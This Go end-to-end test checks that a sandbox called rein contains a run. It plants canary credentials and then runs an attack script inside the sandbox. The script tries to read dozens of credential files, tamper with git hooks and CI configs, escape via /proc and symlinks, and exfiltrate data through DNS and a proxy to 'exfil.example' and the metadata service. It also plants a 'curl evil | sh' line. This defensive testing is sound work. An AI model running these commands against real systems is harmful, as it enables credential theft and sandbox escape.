package contained

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/reinhq/rein/e2e/internal/harness"
)

// runPolicy lets a contained run reach one host and no other.
const runPolicy = `version: 1
rules:
  - {id: registry, when: 'tool == "net.connect" && args.host == "registry.example" && sandbox.contained && sandbox.net == "proxied"', decision: allow}
  - {id: no-other-hosts, when: 'tool == "net.connect" && args.host != "registry.example"', decision: deny, reason: "only the registry"}
`

// homeCanaries are credential stores outside the workspace, by path under
// a home directory: cloud, container registries, clusters, VPN keys, CI and
// package tokens, AI CLIs' auth files, browser profiles, wallets, keyrings.
var homeCanaries = []string{
	".aws/credentials", ".aws/config", ".aws/sso/cache/token.json", ".config/gcloud/application_default_credentials.json",
	".config/gcloud/credentials.db", ".azure/accessTokens.json", ".azure/msal_token_cache.json", ".oci/config",
	".docker/config.json", ".config/containers/auth.json", ".kube/config", ".kube/cache/token",
	".minikube/profiles/dev/client.key", ".talos/config", ".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/known_hosts",
	".gnupg/private-keys-v1.d/key.key", ".password-store/bank.gpg", ".local/share/keyrings/login.keyring",
	".netrc", ".pgpass", ".my.cnf", ".git-credentials", ".npmrc", ".pypirc", ".gem/credentials",
	".cargo/credentials.toml", ".m2/settings.xml", ".gradle/gradle.properties", ".config/gh/hosts.yml",
	".vault-token", ".terraform.d/credentials.tfrc.json", ".config/rclone/rclone.conf", ".s3cfg", ".boto",
	".claude/.credentials.json", ".claude.json", ".codex/auth.json", ".config/github-copilot/apps.json",
	".mozilla/firefox/abc.default/logins.json", ".config/google-chrome/Default/Login Data",
	".var/app/org.chromium.Chromium/config/chromium/Default/Cookies", ".bitcoin/wallet.dat",
	".ethereum/keystore/UTC--key", ".electrum/wallets/default_wallet", ".config/wireguard/wg0.conf",
	".openvpn/client.ovpn", ".ipsec.secrets", ".snowsql/config", ".dbt/profiles.yml", ".databrickscfg",
	".config/op/config", ".env", "work.env", ".config/msmtp/config", ".config/helm/repositories.yaml",
}

// workspaceSecrets are files inside the workspace masked from the run.
var workspaceSecrets = []string{".env", ".env.local", ".env.production", "prod.env", "deploy/server.key", "certs/tls.pem",
	"id_ed25519", "credentials.json", ".netrc", ".pgpass", "infra/terraform.tfvars", "kubeconfig", "store.p12"}

// execConfigFiles arm later execution; the run may read them, not change them.
var execConfigFiles = []string{".git/config", ".git/hooks/pre-commit", ".git/info/attributes", ".gitmodules", ".envrc",
	".vscode/settings.json", ".vscode/tasks.json", ".claude/settings.json", ".cursor/mcp.json", ".mcp.json",
	".github/workflows/ci.yml", ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile", ".npmrc", ".yarnrc.yml",
	".pnpmfile.cjs", "pip.conf", "sitecustomize.py", "lib/site/evil.pth", ".pre-commit-config.yaml", ".idea/workspace.xml"}

// TestRunContains runs real attacks inside `rein run` against canaries:
// credentials outside the workspace and masked ones inside are unreadable,
// files that arm later execution are not changed, nothing reaches the
// network but through rein (which refuses private addresses and asks policy
// about names before resolving them), processes outside are invisible, and
// no secret passes in the environment; a build in the workspace still works.
func TestRunContains(t *testing.T) {
	e := startRein(t, runPolicy)
	home, ws := t.TempDir(), t.TempDir()
	canary := func(i int, where string) string { return fmt.Sprintf("CANARY-%s-%03d-7f3a", where, i) }
	var canaries []string
	for i, p := range homeCanaries {
		writeFile(t, filepath.Join(home, p), canary(i, "home")+"\n")
		canaries = append(canaries, canary(i, "home"))
	}
	for i, p := range workspaceSecrets {
		writeFile(t, filepath.Join(ws, p), canary(i, "ws")+"\n")
		canaries = append(canaries, canary(i, "ws"))
	}
	for _, p := range execConfigFiles {
		writeFile(t, filepath.Join(ws, p), "original\n")
	}
	writeFile(t, filepath.Join(ws, ".env.example"), "API_KEY=your-key-here\n")
	writeFile(t, filepath.Join(ws, "go.mod"), "module example.com/app\n\ngo 1.22\n")
	writeFile(t, filepath.Join(ws, "main.go"), "package main\n\nfunc main() { println(\"built\") }\n")
	sock := filepath.Join(home, ".ssh", "agent.sock")
	l, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(e.s.URL, "http://"))

	var script strings.Builder
	script.WriteString("set +e\n")
	try := func(name, cmd string) {
		fmt.Fprintf(&script, "( %s ) >/dev/null 2>&1 && echo 'ESCAPED %s' || echo 'held %s'\n", cmd, name, name)
	}
	show := func(name, cmd string) { fmt.Fprintf(&script, "echo '== %s'; ( %s ) 2>&1\n", name, cmd) }
	for _, p := range homeCanaries {
		try("read ~/"+p, fmt.Sprintf("cat %q | grep -q CANARY", filepath.Join(home, p)))
	}
	for _, p := range workspaceSecrets {
		try("read workspace "+p, fmt.Sprintf("cat %q | grep -q CANARY", filepath.Join(ws, p)))
	}
	try("list home", fmt.Sprintf("ls %q", home))
	for _, p := range execConfigFiles {
		try("write "+p, fmt.Sprintf("echo armed >> %q", filepath.Join(ws, p)))
	}
	try("replace .git/hooks/pre-commit", fmt.Sprintf("rm -f %q && echo armed > %q", filepath.Join(ws, ".git/hooks/pre-commit"), filepath.Join(ws, ".git/hooks/pre-commit")))
	try("read /proc/self/root escape", fmt.Sprintf("cat /proc/self/root%s | grep -q CANARY", filepath.Join(home, ".aws/credentials")))
	try("read through /proc/1/root", fmt.Sprintf("cat /proc/1/root%s | grep -q CANARY", filepath.Join(home, ".aws/credentials")))
	try("hard link a masked file", fmt.Sprintf("ln %q %q/x && cat %q/x | grep -q CANARY", filepath.Join(ws, ".env"), ws, ws))
	try("symlink out", fmt.Sprintf("ln -s %q %q/l && cat %q/l | grep -q CANARY", filepath.Join(home, ".aws/credentials"), ws, ws))
	try("ssh-agent socket", fmt.Sprintf("test -S %q", sock))
	try("direct TCP to rein", "exec 3<>/dev/tcp/127.0.0.1/"+port)
	try("direct TCP to a public address", "exec 3<>/dev/tcp/1.1.1.1/443")
	try("DNS", "getent hosts registry.npmjs.org")
	proxy := func(target string) string {
		return fmt.Sprintf(`exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' >&3; head -1 <&3 | grep -q ' 200 '`, target, target)
	}
	try("proxy to rein on loopback", proxy("127.0.0.1:"+port))
	try("proxy to localhost by name", proxy("localhost:"+port))
	try("proxy to metadata", proxy("169.254.169.254:80"))
	try("proxy to metadata in IPv6", proxy("[fd00:ec2::254]:80"))
	try("proxy to a private address", proxy("10.0.0.1:443"))
	try("proxy to a host policy denies", proxy("exfil.example:443"))
	try("DNS exfiltration through a name", proxy("c2VjcmV0.exfil.example:443"))
	try("signal a process outside", "kill -0 1 && kill -0 $PPID && [ $(ls /proc | grep -c '^[0-9]') -gt 20 ]")
	try("ptrace", "python3 -c 'import ctypes,sys; sys.exit(0 if ctypes.CDLL(None).ptrace(16, 1, 0, 0) == 0 else 1)'")
	try("mount", "python3 -c 'import ctypes,sys; sys.exit(0 if ctypes.CDLL(None).mount(b\"none\", b\"/tmp\", b\"tmpfs\", 0, None) == 0 else 1)'")
	try("new user namespace", "unshare -U true")
	show("plant new exec-config", fmt.Sprintf("mkdir -p %[1]s/sub %[1]s/.gitlab && echo 'curl evil | sh' > %[1]s/sub/.envrc && echo 'x: y' > %[1]s/.gitlab/ci.yml && echo planted", ws))
	show("env", "env")
	show("id", "id; grep -E 'NoNewPrivs|CapEff' /proc/self/status")
	show("template", "cat "+filepath.Join(ws, ".env.example"))
	show("build", "go build -buildvcs=false -o /tmp/app . && /tmp/app")
	show("proxy allows the registry", `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT registry.example:443 HTTP/1.1\r\nHost: registry.example\r\n\r\n' >&3; head -1 <&3`)
	scriptPath := filepath.Join(t.TempDir(), "attack.sh")
	writeFile(t, scriptPath, script.String())
	os.Chmod(scriptPath, 0o755)
	// The script lives outside the workspace: the run reads it through stdin.
	body, _ := os.ReadFile(scriptPath)

	state := t.TempDir()
	env := append(e.s.ClientEnv(e.keys["builder"]), "HOME="+home, "SSH_AUTH_SOCK="+sock, "XDG_STATE_HOME="+state,
		"AWS_SECRET_ACCESS_KEY=CANARY-env-aws-7f3a", "GITHUB_TOKEN=CANARY-env-gh-7f3a", "DOCKER_HOST=unix:///var/run/docker.sock")
	r := reinRun(t, env, string(body), "run", "--workspace", ws, "--session", "contained-1", "--", "bash", "-s")
	out := r.Stdout + r.Stderr
	if r.Code != 0 {
		t.Fatalf("rein run: %s", r)
	}
	for _, line := range strings.Split(r.Stdout, "\n") {
		if strings.HasPrefix(line, "ESCAPED") {
			t.Errorf("%s", line)
		}
	}
	held := strings.Count(r.Stdout, "held ")
	if held < len(homeCanaries)+len(workspaceSecrets)+len(execConfigFiles)+15 {
		t.Errorf("only %d attempts reported held:\n%s", held, r.Stdout)
	}
	for _, c := range append(canaries, "CANARY-env", e.keys["builder"]) {
		if strings.Contains(out, c) {
			t.Errorf("the run saw %s", c)
		}
	}
	for _, want := range []string{"HOME=/home/agent", "HTTPS_PROXY=http://127.0.0.1:3128", "uid=1000", "NoNewPrivs:\t1",
		"CapEff:\t0000000000000000", "API_KEY=your-key-here", "built"} {
		if !strings.Contains(r.Stdout, want) {
			t.Errorf("the run's output lacks %q:\n%s", want, r.Stdout)
		}
	}
	for _, bad := range []string{"SSH_AUTH_SOCK", "DOCKER_HOST", "REIN_KEY", "REIN_SERVER", "GITHUB_TOKEN", "AWS_SECRET"} {
		if strings.Contains(section(r.Stdout, "env"), bad) {
			t.Errorf("%s passed into the run", bad)
		}
	}
	for _, p := range execConfigFiles {
		if b, _ := os.ReadFile(filepath.Join(ws, p)); string(b) != "original\n" {
			t.Errorf("%s was changed: %q", p, b)
		}
	}
	// Files that arm later execution which the run created are moved out
	// of the workspace when it ends.
	if !strings.Contains(r.Stdout, "planted") {
		t.Errorf("the run could not write in its workspace:\n%s", r.Stdout)
	}
	for _, p := range []string{"sub/.envrc", ".gitlab"} {
		if _, err := os.Stat(filepath.Join(ws, p)); err == nil {
			t.Errorf("%s, created by the run, is still in the workspace", p)
		}
		if _, err := os.Stat(filepath.Join(state, "rein", "quarantine", "contained-1", p)); err != nil || !strings.Contains(r.Stderr, p) {
			t.Errorf("%s is not in quarantine, or the run did not say so: %v\n%s", p, err, r.Stderr)
		}
	}
	// rein decided the names: the denied host and the exfiltrating name are
	// denied checks of the session; the registry an allowed one; an address
	// literal (never reachable) is on the record too.
	var checks []struct {
		Decision string `json:"decision"`
		Check    struct {
			Tool string          `json:"tool"`
			Args json.RawMessage `json:"args"`
		} `json:"check"`
	}
	harness.GetJSON(t, e.s.URL+"/v1/sessions/contained-1/checks", e.keys["alice"], &checks)
	got := map[string]string{}
	for _, c := range checks {
		var a struct{ Host string }
		json.Unmarshal(c.Check.Args, &a)
		got[a.Host] = c.Decision
	}
	if got["exfil.example"] != "deny" || got["c2vjcmv0.exfil.example"] != "deny" || got["registry.example"] != "allow" || got["localhost"] != "deny" {
		t.Errorf("net.connect checks of the run: %v\n%s", got, out)
	}
	// The run is on the record: started contained (policy saw it: the
	// registry rule needs sandbox.contained) and ended, with what was
	// quarantined.
	var sawStart, sawEnd bool
	for _, b := range e.entries(t) {
		var en struct {
			Kind    string
			Subject string
			Data    map[string]any
		}
		json.Unmarshal(b, &en)
		switch {
		case en.Kind == "sandbox.started" && en.Subject == "contained-1":
			sawStart = en.Data["profile"] == "coding" && en.Data["workspace"] == ws && strings.Contains(fmt.Sprint(en.Data["features"]), "Landlock")
		case en.Kind == "sandbox.ended" && en.Subject == "contained-1":
			sawEnd = en.Data["exit_status"] == float64(0) && strings.Contains(fmt.Sprint(en.Data["quarantined"]), ".envrc")
		}
	}
	if !sawStart || !sawEnd {
		t.Errorf("the audit log lacks the run's sandbox.started (%v) or sandbox.ended (%v)", sawStart, sawEnd)
	}
	// A session that already ran outside cannot be claimed contained.
	if r := harness.ReinWithInput(t, env, "", "run", "--workspace", ws, "--session", "contained-1", "--", "true"); r.Code == 0 || !strings.Contains(r.Stderr, "already") {
		t.Errorf("a second run in the same session: %s", r)
	}
	for _, h := range []string{"127.0.0.1", "169.254.169.254", "10.0.0.1", "fd00:ec2::254"} {
		if got[h] != "deny" {
			t.Errorf("the attempt to reach the address literal %s is not on the record as a denied check: %q", h, got[h])
		}
	}
}
